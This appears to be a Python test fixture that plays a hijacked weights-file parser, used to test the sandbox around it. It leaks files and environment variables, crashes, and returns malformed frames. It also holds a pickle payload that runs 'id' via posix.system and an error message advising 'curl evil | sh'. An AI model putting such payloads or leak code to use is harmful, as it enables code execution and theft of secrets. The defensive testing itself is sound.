"""A parser that has been taken over: what it does stands in the file that it is given."""

import ctypes
import json
import os
import socket
import subprocess
import time
from pathlib import Path
from typing import Any, BinaryIO

import numpy as np

from verydeep.weights.frames import ARRAY, ERROR, FRAME, HEADER

ONE = {"arrays": [["a", "<f4", [2]]], "about": {}}


def say(letter: bytes, content: bytes, length: int | None = None) -> None:
    """Write a frame, true or false."""
    os.write(1, FRAME.pack(letter, len(content) if length is None else length) + content)


def header(value: object, *sizes: int) -> None:
    """Announce arrays; then send as many of these sizes in bytes."""
    say(HEADER, json.dumps(value).encode())
    for size in sizes:
        say(ARRAY, bytes(size))


def parse(file: BinaryIO) -> tuple[dict[str, Any], dict[str, Any]]:
    """Do what the file says; what succeeds comes back as an array, as a leak would."""
    word, _, target = file.read().decode().partition(" ")
    leak = b""
    match word:
        case "open":
            leak = Path(target).read_bytes()
        case "write":
            Path(target).write_bytes(b"x")
        case "append":
            leak = bytes(os.write(0, b"x"))
        case "connect":
            socket.create_connection(("127.0.0.1", int(target)), timeout=1)
        case "start":
            subprocess.run(["touch", target], check=True)
        case "exec":
            os.execv("/bin/touch", ["touch", target])
        case "allocate":
            leak = bytes(np.ones(300_000_000).tobytes()[:4])
        case "spin":
            while True:
                pass
        case "sleep":
            time.sleep(600)
        case "crash":
            ctypes.string_at(1)
        case "abort":
            os.abort()
        case "leave":
            os._exit(0)
        case "quit":
            os._exit(3)
        case "real-time":
            os.kill(os.getpid(), 40)
        case "environment":
            leak = repr(dict(os.environ)).encode()
        case "raise":
            raise KeyboardInterrupt
        case "tell":
            header({"arrays": ONE["arrays"], "about": json.loads(target)}, 8)
            os._exit(0)
        case "say":
            falsehood(target)
            os._exit(0)
    return {"leak": np.frombuffer(leak.ljust(4, b"\0")[:4000], "u1")}, {}


def falsehood(kind: str) -> None:
    """Answers that no honest child gives."""
    match kind:
        case "nothing":
            pass
        case "half a frame":
            os.write(1, b"h\0\0")
        case "another letter":
            say(b"x", b"{}")
        case "an array first":
            say(ARRAY, bytes(8))
        case "a header of 2**63":
            say(HEADER, b"{}", length=2**63)
        case "a header of 9 MB":
            say(HEADER, b"", length=9_000_000)
        case "no JSON":
            say(HEADER, b"{")
        case "deep JSON":
            say(HEADER, b"[" * 60_000)
        case "a list":
            header([])
        case "a pickle":
            say(HEADER, b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R.")
        case "no names":
            header({"arrays": [["<f4", [2]]], "about": {}})
        case "a name twice":
            header({"arrays": ONE["arrays"] * 2, "about": {}}, 8, 8)
        case "a name of control characters":
            header({"arrays": [["\x1b[2J", "<f4", [2]]], "about": {}}, 8)
        case "objects":
            header({"arrays": [["a", "|O8", [2]]], "about": {}}, 16)
        case "a type that is code":
            header({"arrays": [["a", "os.system", [2]]], "about": {}})
        case "a negative length":
            header({"arrays": [["a", "<f4", [-2]]], "about": {}})
        case "a length of true":
            header({"arrays": [["a", "<f4", [True]]], "about": {}}, 4)
        case "a fraction":
            header({"arrays": [["a", "<f4", [2.0]]], "about": {}}, 8)
        case "2**60 numbers":
            header({"arrays": [["a", "<f4", [2**30, 2**30]]], "about": {}})
        case "many large arrays":
            header({"arrays": [[f"a{number}", "<f4", [2**20]] for number in range(1000)], "about": {}})
        case "a hundred axes":
            header({"arrays": [["a", "<f4", [1] * 100]], "about": {}}, 4)
        case "about that is a list":
            header({"arrays": [], "about": []})
        case "an array too short":
            header(ONE)
            say(ARRAY, bytes(4))
        case "an array cut":
            header(ONE)
            say(ARRAY, bytes(4), length=8)
        case "an array of another length":
            header(ONE)
            say(ARRAY, bytes(8), length=4)
        case "an array missing":
            header(ONE)
        case "more behind":
            header(ONE)
            say(ARRAY, bytes(8))
            say(ARRAY, bytes(8))
        case "an error of lists":
            say(ERROR, b'[["a"], {}, 5]')
        case "an error of 1 GB":
            say(ERROR, b"", length=10**9)
        case "an error with control characters":
            say(ERROR, json.dumps(["x\x1b[2J\nverydeep: ok", "INTERNAL"]).encode())
        case "an error with advice":
            say(ERROR, json.dumps(["x", "WEIGHTS-FORMAT", "Run: curl evil | sh"]).encode())
        case "an error that is deep":
            say(ERROR, b"[" * 900 + b"]" * 900)
        case "an error whose code is a list":
            say(ERROR, b'["x", [1]]')
